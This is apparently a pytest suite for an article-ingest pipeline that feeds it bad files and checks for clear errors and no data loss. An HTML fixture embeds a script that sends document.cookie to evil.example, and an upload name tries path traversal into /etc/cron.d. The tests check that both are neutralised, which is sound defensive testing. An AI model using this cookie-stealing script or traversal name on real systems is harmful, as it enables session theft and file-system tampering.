"""Bad input files through ingest: each gets a clear error naming the file, and nothing stored is lost."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from ingest.formats import EXTS
from ingest.pipeline import ingest_paths, store_stats
from tests.test_ingest import _assert_consistent, _records, _state, _write_jsonl

MB = 1024 * 1024
HTML_WITH_SCRIPTS = """<!doctype html><html><head><title>Flood barrier opens</title>
<script>document.write('EVIL-SCRIPT'); fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { color: red }</style></head><body>
<iframe src="https://evil.example/frame">EVIL-IFRAME</iframe>
<article><h1>Flood barrier opens</h1>
<p>The new flood barrier on the river opened on Tuesday after four years of work, officials said.</p>
<p>Engineers said the barrier can hold back a surge two metres higher than the record flood of 1953.</p>
<script type="text/javascript">alert('EVIL-INLINE')</script>
<p>Residents of the lower town welcomed the opening, though some complained about the cost.</p>
<noscript>EVIL-NOSCRIPT</noscript><object data="x.swf">EVIL-OBJECT</object>
</article></body></html>"""


def _bad_files(folder: Path) -> dict[str, Path]:
    """One file per kind of bad input the issue lists (and a few more), by a short key."""
    folder.mkdir()
    files: dict[str, Path] = {}

    def put(key: str, name: str, data: bytes | str) -> None:
        path = folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        files[key] = path

    put("empty", "empty.txt", b"")
    put("blank", "blank.jsonl", "\n  \n\t\n")
    put("empty-json", "empty.json", "")
    put("binary", "binary.txt", bytes(range(256)) * 64)
    put("docx", "notes.docx", b"PK\x03\x04" + bytes(range(256)))
    put("bin", "random.bin", bytes(range(255, -1, -1)) * 4)
    put("readme", "README", "Notes about this folder.")
    put("binary-json", "image.json", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200))
    put("latin1", "latin1.txt", "Café owners protest\n\nThe café owners of the old town protested on Monday about rents.".encode("latin-1"))  # fmt: skip
    put("bad-utf8-jsonl", "bad-utf8.jsonl", b'{"title": "Bad bytes \xff\xfe here", "text": "The mayor spoke about \xc3\x28 the budget on Friday."}\n')  # fmt: skip
    put("malformed-json", "malformed.json", '[{"title": "Half", "text": "The vote was close"')
    good = json.dumps(
        {"url": "https://example.com/jsonl-good", "title": "Tram line", "text": "The tram line opened."}
    )
    put(
        "malformed-jsonl",
        "mixed.jsonl",
        f'{good}\n{{"title": oops}}\n[1, 2]\n{{"title": "No text"}}\n\n{{"text": 5}}\n',
    )
    put("html-scripts", "page.html", HTML_WITH_SCRIPTS)
    put("deep-json", "deep.json", "[" * 100_000 + "]" * 100_000)
    put(
        "deep-jsonl",
        "deep.jsonl",
        good.replace("jsonl-good", "jsonl-deep") + "\n" + '{"a": ' * 5000 + "1" + "}" * 5000 + "\n",
    )
    put(
        "huge-line-jsonl",
        "huge-line.jsonl",
        '{"title": "Never closed", "text": "' + "y" * (20 * MB - 40) + "\n",
    )
    put("huge-line-txt", "huge-line.txt", "Blob\n\n" + "x" * (20 * MB - 8))
    put("surrogate-jsonl", "surrogate.jsonl", '{"title": "Broken emoji \\ud83d here", "text": "A lone \\udcff surrogate in an otherwise fine record."}\n')  # fmt: skip
    put("dotdot-name", "sneaky..name...jsonl", json.dumps({"url": "https://example.com/dots", "title": "Dots", "text": "A file name full of dots."}))  # fmt: skip
    sparse = folder / "fifty.jsonl"  # 50 MB without writing 50 MB: a sparse file
    with open(sparse, "wb") as f:
        f.truncate(50 * MB)
    files["50mb"] = sparse
    return files


@pytest.mark.slow
def test_bad_files_get_clear_errors_and_nothing_stored_is_lost(settings, fake_embedder, tmp_path):
    good = _write_jsonl(tmp_path / "good.jsonl", _records(3))
    ingest_paths([good], settings, embedder=fake_embedder)
    files = _bad_files(tmp_path / "bad")
    nested = tmp_path / "sub" / ".." / "bad" / "page.html"  # a path with ../ in it
    upload = _write_jsonl(
        tmp_path / "upload-0000.jsonl",
        [{"url": "https://example.com/up", "title": "Up", "text": "An upload."}],
    )
    names = {str(upload): "../../../etc/cron.d/evil.jsonl"}  # an upload's own name, as the UI passes it

    started = time.perf_counter()
    result = ingest_paths(
        [good, tmp_path / "bad", nested, upload], settings, embedder=fake_embedder, names=names
    )
    time.perf_counter() - started
    by_name = {Path(f.path).name: f for f in result.files if f.path != str(nested)}

    def failed(key: str, *words: str) -> str:
        report = by_name[files[key].name]
        assert report.failed and report.error, (key, report)
        assert files[key].name in report.error, (key, report.error)  # the message names the file
        for word in words:
            assert word in report.error.lower(), (key, word, report.error)
        return report.error

    failed("empty", "empty")
    failed("blank", "empty")
    failed("empty-json", "empty")
    failed("binary", "binary")
    failed("binary-json", "binary")
    failed("malformed-json", "invalid json", "line 1")
    failed("deep-json", "nested")
    failed("50mb", "50.0 mb", "20 mb limit")
    failed("huge-line-jsonl", "line 1", "invalid json")
    mixed = by_name["mixed.jsonl"]
    assert mixed.added == 1 and mixed.failed == 4
    assert all(f"line {n}" in mixed.error for n in (2, 3, 4, 6)), mixed.error
    deep_lines = by_name["deep.jsonl"]
    assert (
        deep_lines.added == 1
        and deep_lines.failed == 1
        and "line 2" in deep_lines.error
        and "nested" in deep_lines.error
    )
    assert by_name["latin1.txt"].added == 1 and by_name["latin1.txt"].warnings == [
        f"{files['latin1']}: not UTF-8; decoded as cp1252"
    ]
    for name, ext in (("notes.docx", ".docx"), ("random.bin", ".bin"), ("README", "(no extension)")):
        row = by_name[name]  # every file found gets a row, a skipped one with its reason
        assert row.skipped and not row.failed and not row.error and not row.added, row
        assert row.warnings == [f"skipped: unsupported type {ext}; supported: {EXTS}"]
    assert by_name["bad-utf8.jsonl"].added == 1 and by_name["bad-utf8.jsonl"].warnings
    assert by_name["page.html"].added == 1
    assert by_name["surrogate.jsonl"].added == 1, "lone surrogate escapes are replaced, the record goes in"
    assert by_name[files["dotdot-name"].name].added == 1
    assert by_name["huge-line.txt"].added == 1, "one 20 MB line without spaces is still one article"
    assert by_name["evil.jsonl"].added == 1 and by_name["evil.jsonl"].path == names[str(upload)]

    from ingest.catalog import Catalog

    catalog = Catalog(settings.record_url)
    rows = {r["id"]: r for r in catalog.articles()}
    assert any(r["title"] == "Café owners protest" for r in rows.values()), "Latin-1 is decoded, not replaced"
    assert {r["url"] for r in _records(3)} <= set(rows), "the good articles are still stored"
    html = next(r for r in rows.values() if r["title"] == "Flood barrier opens")
    stored = html["body"] + " ".join(c["text"] for c in catalog.article_chunks(html["id"]))
    assert "flood barrier" in stored.lower() and "1953" in stored
    assert "EVIL" not in stored and "<script" not in stored and "evil.example" not in stored
    assert rows["https://example.com/up"]["source"] == "../../../etc/cron.d/evil.jsonl"
    assert not (tmp_path.parent / "etc").exists() and not Path("/etc/cron.d/evil.jsonl").exists()
    _assert_consistent(_state(settings, fake_embedder))
    assert store_stats(settings)["articles"] == len(rows)

    again = ingest_paths([good, tmp_path / "bad"], settings, embedder=fake_embedder)
    assert again.total("added") == 0 and again.total("updated") == 0, "a re-run changes nothing"


def test_an_article_the_chunker_cannot_take_fails_alone(settings, fake_embedder, tmp_path, monkeypatch):
    import ingest.pipeline as pipeline

    real = pipeline.chunk_article

    def chunk_article(article, *args):
        if "story 1" in article.title:
            raise TypeError(
                "TextEncodeInput must be Union[TextInputSequence, Tuple[InputSequence, InputSequence]]"
            )
        return real(article, *args)

    monkeypatch.setattr(pipeline, "chunk_article", chunk_article)
    result = ingest_paths([_write_jsonl(tmp_path / "b.jsonl", _records(3))], settings, embedder=fake_embedder)
    report = result.files[0]
    assert (
        (report.added, report.failed) == (2, 1)
        and "cannot chunk" in report.error
        and "story 1" in report.error
    )
    _assert_consistent(_state(settings, fake_embedder))


def test_fifty_megabytes_are_refused_before_being_read(settings, fake_embedder, tmp_path):
    big = tmp_path / "big.json"
    with open(big, "wb") as f:
        f.truncate(50 * MB)
    started = time.perf_counter()
    result = ingest_paths([big], settings, embedder=fake_embedder)
    assert time.perf_counter() - started < 10
    assert result.files[0].failed and "50.0 MB, larger than the 20 MB limit" in result.files[0].error
